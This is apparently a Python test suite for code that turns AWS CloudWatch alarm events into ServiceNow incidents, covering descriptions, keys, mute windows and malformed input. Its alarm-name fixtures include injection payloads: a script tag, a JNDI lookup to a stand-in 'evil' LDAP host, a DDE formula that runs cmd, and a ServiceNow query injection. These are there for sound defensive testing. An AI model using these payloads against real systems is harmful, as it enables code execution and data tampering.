import json
from collections.abc import Mapping
from copy import deepcopy
from datetime import UTC, datetime
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.errors import PermanentError
from common.incidents.alert import Alert, Status
from tests.support.rules import SHIPPED, alert_of, said, sample

ALARM = sample("cloudwatch-alarm-metric-alarm")
OPTIONAL = ("configuration", "previousState")


def fired(event: Mapping[str, Any]) -> Alert:
    """Return the alert of an event that fires."""
    alert = alert_of(event)
    assert alert.status is Status.FIRING
    return alert


def changed(**changes: object) -> dict[str, Any]:
    """Return the ALARM event of a metric alarm with changes of its detail."""
    event = deepcopy(ALARM)
    event["detail"] |= changes
    return event


def lines(alert: Alert) -> list[str]:
    """Return the lines of the description."""
    return alert.fields["description"].splitlines()


def test_an_alarm_becomes_an_incident_that_says_what_where_and_why() -> None:
    """Short description, reason, metric, threshold, console link, account and Region."""
    console = "https://eu-central-1.console.aws.amazon.com/cloudwatch/home?region=eu-central-1"
    link = f"{console}#alarmsV2:alarm/checkout-api%20p99%20latency"
    alert = fired(ALARM)
    assert alert.table == "incident"
    assert alert.occurred_at == 1_795_425_331_122
    told = "checkout-api p99 latency: TargetResponseTime 1.874 >= 1.2 (111122223333, eu-central-1)"
    assert alert.fields["short_description"] == told
    assert (alert.fields["impact"], alert.fields["urgency"]) == ("2", "2")
    for line in (
        "Checkout answers too slowly. Runbook: wiki/checkout#latency",
        f"Reason: {ALARM['detail']['state']['reason']}",
        "State: ALARM since 2026-11-23T09:15:31.122+0000, before OK",
        "Metric: AWS/ApplicationELB TargetResponseTime",
        "Threshold: 1.2",
        "Account: 111122223333",
        "Region: eu-central-1",
        f"Resource: {ALARM['resources'][0]}",
        f"Console: {link}",
    ):
        assert line in lines(alert)
    assert not any("Actions suppressed" in line or "Muted" in line for line in lines(alert))
    assert alert.note.startswith("CloudWatch reports ALARM at 2026-11-23T09:15:31.122+0000.\nThreshold Crossed")


def test_recovery_resolves_the_same_problem() -> None:
    """With a note that says why, and no fields: they are those of a new record."""
    alarm, recovered = fired(ALARM), alert_of(sample("cloudwatch-alarm-metric-ok"))
    assert (recovered.status, recovered.key, recovered.fields) == (Status.RESOLVED, alarm.key, {})
    assert recovered.note.startswith("CloudWatch reports OK at")
    assert recovered.occurred_at > alarm.occurred_at


def test_insufficient_data_says_nothing() -> None:
    """Fault 78: neither that the problem is there nor that it is over."""
    assert said(sample("cloudwatch-alarm-metric-insufficient-data")) is None


@pytest.mark.parametrize("state", ["", "alarm", "ALARM ", "UNKNOWN", None, 1, ["ALARM"], {}])
def test_any_other_state_fires(state: object) -> None:
    """What CloudWatch does not document must not count as nothing: whoever doubts looks."""
    assert fired(changed(state={"value": state})).status is Status.FIRING


def test_a_composite_alarm_shows_its_rule_and_what_suppresses_it() -> None:
    """Its events have no metrics; suppressed actions do not keep the event away."""
    alert = fired(sample("cloudwatch-alarm-composite-alarm"))
    assert 'Alarm rule: ALARM("checkout-api p99 latency") OR ALARM("orders 5xx share")' in lines(alert)
    assert "Actions suppressed by: WaitPeriod" in lines(alert)
    assert not any(line.startswith(("Metric:", "Threshold:", "Expression:")) for line in lines(alert))
    assert alert_of(sample("cloudwatch-alarm-composite-ok")).key == alert.key


def test_the_longest_rule_of_a_composite_alarm_hides_nothing_else() -> None:
    """It may have 10,240 characters, the description of an alarm 1,024, a reason 1,023."""
    event = sample("cloudwatch-alarm-composite-alarm")
    event["detail"]["configuration"] |= {"alarmRule": "ALARM(x) OR " * 853, "description": "d" * 1024}
    event["detail"]["state"]["reason"] = "r" * 1023
    alert = fired(event)
    assert len(alert.fields["description"]) <= 4000
    assert "Account: 111122223333" in lines(alert)
    assert any(line.startswith("Console: https://") for line in lines(alert))
    assert "d" * 1024 in alert.fields["description"]


def test_a_metric_math_alarm_shows_every_metric_and_the_expression() -> None:
    """The expression stands among the metrics, and has none of its own."""
    alert = fired(sample("cloudwatch-alarm-expression-alarm"))
    assert "Metric: AWS/ApiGateway 5XXError, AWS/ApiGateway Count" in lines(alert)
    assert "Expression: 100 * errors / requests" in lines(alert)


def test_an_anomaly_detection_alarm_has_no_single_threshold() -> None:
    """Its bounds are in the reason."""
    alert = fired(sample("cloudwatch-anomaly-detection-alarm"))
    assert any("ANOMALY_DETECTION_BAND" in line for line in lines(alert))
    assert not any(line.startswith("Threshold:") for line in lines(alert))


def test_an_alarm_on_partial_data_says_so() -> None:
    """A Metrics Insights query that covers too many series is evaluated on the first of them."""
    event = sample("cloudwatch-partial-data-alarm")
    assert event["detail"]["state"]["evaluationState"] == "PARTIAL_DATA"
    assert any("PARTIAL_DATA" in line for line in lines(fired(event)))


def test_a_muted_alarm_says_so_and_waits_until_its_mute_window_ends() -> None:
    """Mute rules silence an alarm's actions, not its events."""
    event = sample("cloudwatch-muted-alarm")
    mute = event["detail"]["muteDetail"]
    alert = fired(event)
    assert any(mute["mutedByArn"] in line for line in lines(alert))
    assert alert.quiet_by == mute["mutedByArn"]
    assert alert.quiet_until == datetime(2026, 11, 23, 5, 0, tzinfo=UTC).timestamp() * 1000


@pytest.mark.parametrize("end", [None, "soon", 7, ""])
def test_a_mute_window_without_an_end_quiets_nothing(end: object) -> None:
    """Better told than forgotten."""
    event = sample("cloudwatch-muted-alarm")
    event["detail"]["muteDetail"]["muteWindowEnd"] = end
    assert fired(event).quiet_until == 0


@pytest.mark.parametrize("absent", [*OPTIONAL, "state.reason", "state.reasonData", "state.timestamp", "both"])
def test_optional_fields_may_be_missing(absent: str) -> None:
    """Fault 81: a line that nothing is known for is left out, and the rest stands."""
    event = deepcopy(ALARM)
    for name in OPTIONAL if absent == "both" else [absent]:
        parent, _, child = name.rpartition(".")
        del (event["detail"][parent] if parent else event["detail"])[child]
    alert = fired(event)
    assert alert.key == fired(ALARM).key
    assert "Region: eu-central-1" in lines(alert)
    assert "None" not in alert.fields["description"]
    assert "{{" not in alert.fields["description"]


def test_without_a_time_of_its_own_the_event_counts_by_its_delivery() -> None:
    """Seconds are coarse, but in order."""
    event = deepcopy(ALARM)
    event["detail"]["state"]["timestamp"] = "soon"
    assert fired(event).occurred_at == 1_795_425_331_000


@pytest.mark.parametrize(
    ("time", "reason"),
    [
        ("", "no ISO 8601 timestamp"),
        ("soon", "no ISO 8601 timestamp"),
        ("2026-13-01T00:00:00Z", "no ISO 8601 timestamp"),
        ("1969-12-31T23:59:59Z", "before 1970-01-01T00:00:01Z"),
        ("1970-01-01T00:00:00Z", "before 1970-01-01T00:00:01Z"),
    ],
)
def test_an_event_without_any_time_is_refused(time: str, reason: str) -> None:
    """Without a time nothing can be put in order."""
    event = changed(state={"value": "ALARM"}) | {"time": time}
    with pytest.raises(PermanentError, match=reason):
        alert_of(event)


@pytest.mark.parametrize("name", [None, "", [], {}])
def test_an_alarm_without_a_name_is_refused(name: object) -> None:
    """Fault 81: the reason names what is missing and the rule that needs it."""
    event = changed(alarmName=name)
    if name in (None, ""):
        with pytest.raises(PermanentError, match=r"no detail\.alarmName, which the rule cloudwatch-alarm needs"):
            alert_of(event)
    else:
        assert fired(event).key


NAMES = {
    "blanks": "checkout-api p99 latency",
    "slashes": "TargetTracking-table/orders-AlarmHigh-0a1b",
    "quotes": "say \"hi\" or 'bye'",
    "query": "a^ORactive=true^NQ",
    "markup": "<script>alert(1)</script>",
    "look-up": "${jndi:ldap://evil}",
    "formula": "=cmd|' /C calc'!A0",
    "template": "{{ account }}",
    "script": "javascript:gs.log()",
    "journal code": "[code]<b>x</b>[/code]",
    "line ends": "a\r\nb",
    "emoji": "🔥 checkout",
    "right to left": "תקלה \u202egnp",
    "NUL": "a\x00b",
    "half a pair": "a\ud83d",
    "longest": "n" * 255,
    "backslash": "a\\b",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=list(NAMES))
def test_alarm_names_may_hold_anything(name: str) -> None:
    """Faults 83 and 84: each is a problem of its own, and its text does nothing in ServiceNow."""
    alert = fired(changed(alarmName=name))
    keys = {fired(changed(alarmName=other)).key for other in NAMES.values()}
    assert len(keys) == len(NAMES)
    assert alert.key in keys
    assert alert.key.encode()
    assert json.loads(alert.key)[-1] == name
    for text in alert.fields.values():
        assert text.encode()
        assert not set(text) & {"\x00", "\r", "\u202e"}
        assert "[code]" not in text
    assert "\n" not in alert.fields["short_description"]
    assert len(alert.fields["short_description"]) <= 160
    (link,) = (line for line in lines(alert) if line.startswith("Console: "))
    assert " " not in link.removeprefix("Console: ")
    assert unquote(link.partition("alarm/")[2]) == name.replace("\ud83d", "?")


def test_the_key_names_account_region_and_rule() -> None:
    """The same name elsewhere is another problem."""
    elsewhere = [ALARM | {"account": "999999999999"}, ALARM | {"region": "us-east-1"}, changed(alarmName="other")]
    keys = {fired(event).key for event in [ALARM, *elsewhere]}
    assert len(keys) == 4


def test_events_of_other_types_are_not_known() -> None:
    """A contributor of an alarm is no problem of its own, and a changed configuration none at all."""
    for detail_type in ("CloudWatch Alarm Configuration Change", "CloudWatch Alarm Contributor State Change"):
        assert SHIPPED.match(ALARM | {"detail-type": detail_type}) is None
    assert SHIPPED.match(ALARM | {"source": "my.application"}) is None


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters(exclude_categories=())),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(), children, max_size=3),
    max_leaves=10,
)
STATES = st.dictionaries(st.sampled_from(["reason", "reasonData", "timestamp", "actionsSuppressedBy"]), JSON)


@given(
    STATES,
    st.dictionaries(st.sampled_from(["alarmName", "configuration", "previousState", "muteDetail", "alarmTags"]), JSON),
    st.dictionaries(st.sampled_from(["id", "resources", "version"]), JSON),
)
def test_no_alarm_whatever_does_more_than_fire_or_be_refused(
    state: dict[str, Any], detail: dict[str, Any], event: dict[str, Any]
) -> None:
    """Fault 81: every field may be missing, null, or of another type."""
    odd = changed(state=state | {"value": "ALARM"}, **detail) | event
    try:
        alert = fired(odd)
    except PermanentError:
        return
    assert len(alert.fields["description"]) <= 4000
    assert all(text.encode() for text in alert.fields.values())
